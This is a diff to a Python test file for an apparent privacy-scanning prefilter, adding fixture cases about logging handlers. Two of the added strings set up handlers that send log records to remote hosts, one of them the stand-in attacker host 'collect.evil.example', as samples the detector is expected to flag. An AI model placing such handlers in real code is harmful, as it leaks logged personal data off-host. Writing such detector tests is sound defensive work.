@@ -47,6 +47,7 @@ def test_same_findings_on_the_corpora(tree):
     "class Page:\n    title = 'x'\n\ndef g(user):\n    return Page.name\n",
     "EMAIL_BACKEND = 'smtp'\n",  # a strong word the classifier rejects
     "import simple_parsing\nfrom auth import box\n",  # words from SDK names, not the SDK roots
+    "import logging\nlogging.getLogger('shop').addHandler(logging.StreamHandler())\n",  # records stay here
 ])
 def test_skips_files_that_cannot_yield_a_finding(source):
     assert not PF.may_yield(source)
@@ -66,6 +67,9 @@ def test_skips_files_that_cannot_yield_a_finding(source):
     # found on wagtail: a getter whose noun is personal data (the engine classifies `display_name`)
     "cached = {l.pk: l.get_display_name() for l in Locale.objects.all()}\ncache.set('k', cached)\n",
     "print(record['date of birth'])\n",  # a key of several words
+    # a handler that sends log records to another machine, called or named in a dictConfig dict
+    "import logging.handlers\nh = logging.handlers.HTTPHandler('collect.evil.example', '/logs')\n",
+    "LOGGING = {'handlers': {'r': {'class': 'logging.handlers.SysLogHandler', 'address': ('h.example', 514)}}}\n",
 ])
 def test_opens_files_that_may_yield_a_finding(source):
     assert PF.may_yield(source)
